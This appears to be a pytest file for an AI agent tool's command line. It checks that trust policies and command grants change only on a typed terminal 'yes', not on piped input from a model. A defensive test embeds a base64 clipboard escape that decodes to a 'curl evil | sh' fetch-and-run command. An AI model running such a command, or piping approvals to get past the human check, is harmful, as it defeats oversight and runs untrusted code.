"""``passepartout policy accept`` and ``passepartout grant add|accept``: the person's way
to change what the agent trusts, typed on a terminal (a real pty here); a pipe, as a
model's command would give, is refused and changes nothing."""

from __future__ import annotations

import os
import pty
import select
import subprocess
import sys
import time
from pathlib import Path

import pytest
from passepartout.security.policy.accepted import PolicyTrust

from passepartout.security.approvals import ApprovalBook
from passepartout.security.trust import Trust


def on_pty(args: list[str], env: dict[str, str], answer: str) -> tuple[int, str]:
    """Run ``passepartout ARGS`` on a pseudo-terminal; type ``answer`` at its question."""
    pid, fd = pty.fork()
    if pid == 0:  # the child: the command, its stdin and stdout the terminal
        os.execve(sys.executable, [sys.executable, "-m", "passepartout", *args], env)
    out, typed, deadline = b"", False, time.monotonic() + 30
    while time.monotonic() < deadline:
        ready, _, _ = select.select([fd], [], [], 0.5)
        if not ready:
            continue
        try:
            chunk = os.read(fd, 4096)
        except OSError:  # the child closed the terminal
            break
        if not chunk:
            break
        out += chunk
        if not typed and b"[y/N]" in out:
            os.write(fd, answer.encode() + b"\n")
            typed = True
    _, status = os.waitpid(pid, 0)
    os.close(fd)
    return os.waitstatus_to_exitcode(status), out.decode("utf-8", "replace")


@pytest.fixture
def cli_env(env: dict[str, str]) -> dict[str, str]:
    return {**os.environ, **env, "PYTHONPATH": str(Path(__file__).parents[1])}


def test_policy_accept_needs_a_terminal_yes(cli_env: dict[str, str], env: dict[str, str]) -> None:
    policy = Path(env["PASSEPARTOUT_CONFIG_DIR"]) / "policy.toml"
    trust = PolicyTrust(Trust.in_state(Path(env["PASSEPARTOUT_HOME"])))
    trust.accept(None, how="first start")
    policy.write_text('[[rule]]\ndecision = "allow"\ntool = "eval"\n')
    piped = subprocess.run([sys.executable, "-m", "passepartout", "policy", "accept"],
                           input="y\n", capture_output=True, text=True, env=cli_env, timeout=60)
    assert piped.returncode == 1 and "terminal" in piped.stderr
    assert trust.accepted().text is None
    code, out = on_pty(["policy", "accept"], cli_env, "n")
    assert code == 1 and "+ rule allow eval" in out and trust.accepted().text is None
    code, out = on_pty(["policy", "accept"], cli_env, "y")
    assert code == 0 and "accepted" in out
    assert trust.accepted().text == policy.read_text()


def test_grant_add_and_accept_seal_what_the_person_typed(
    cli_env: dict[str, str], env: dict[str, str]
) -> None:
    home = Path(env["PASSEPARTOUT_HOME"])
    approvals = Path(env["MEMEX_DIR"]) / "system" / "approvals.org"
    book = ApprovalBook(approvals, home / "flightplans.json", mask=str)
    code, out = on_pty(["grant", "add", "status is fine", "--tool", "shell",
                        "--command", "git status"], cli_env, "y")
    assert code == 0 and "added" in out, out
    book.trust.first_start = False
    assert [r.command for r in book.grant_rules()] == [("git", "status")]
    # A grant written by hand counts once the person accepts it on the terminal.
    with approvals.open("a") as f:
        f.write("** make is fine\n   :PROPERTIES:\n   :TOOL: shell\n   :COMMAND: make\n"
                "   :END:\n")
    assert len(book.grant_rules()) == 1
    code, out = on_pty(["grant", "accept"], cli_env, "y")
    assert code == 0 and "make is fine" in out and "sealed 1 grants" in out, out
    assert [r.command for r in book.grant_rules()] == [("git", "status"), ("make",)]
    code, out = on_pty(["grant", "list"], cli_env, "")
    assert code == 0 and out.count("[sealed]") == 2


def test_policy_show_without_a_policy_file(cli_env: dict[str, str]) -> None:
    shown = subprocess.run([sys.executable, "-m", "passepartout", "policy", "show"],
                           capture_output=True, text=True, env=cli_env, timeout=60)
    assert shown.returncode == 0
    assert "no such file; the built-in defaults are in force" in shown.stdout


@pytest.mark.attack
def test_cli_output_for_a_person_shows_control_characters_escaped(
    cli_env: dict[str, str], env: dict[str, str]
) -> None:
    # policy show quotes policy.toml; a clipboard write (OSC 52) in it is shown, not obeyed
    policy = Path(env["PASSEPARTOUT_CONFIG_DIR"]) / "policy.toml"
    policy.write_text("# \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 hello\n")
    shown = subprocess.run([sys.executable, "-m", "passepartout", "policy", "show"],
                           capture_output=True, env=cli_env, timeout=60)
    assert b"\x1b" not in shown.stdout and b"\x07" not in shown.stdout
    assert b"hello" in shown.stdout
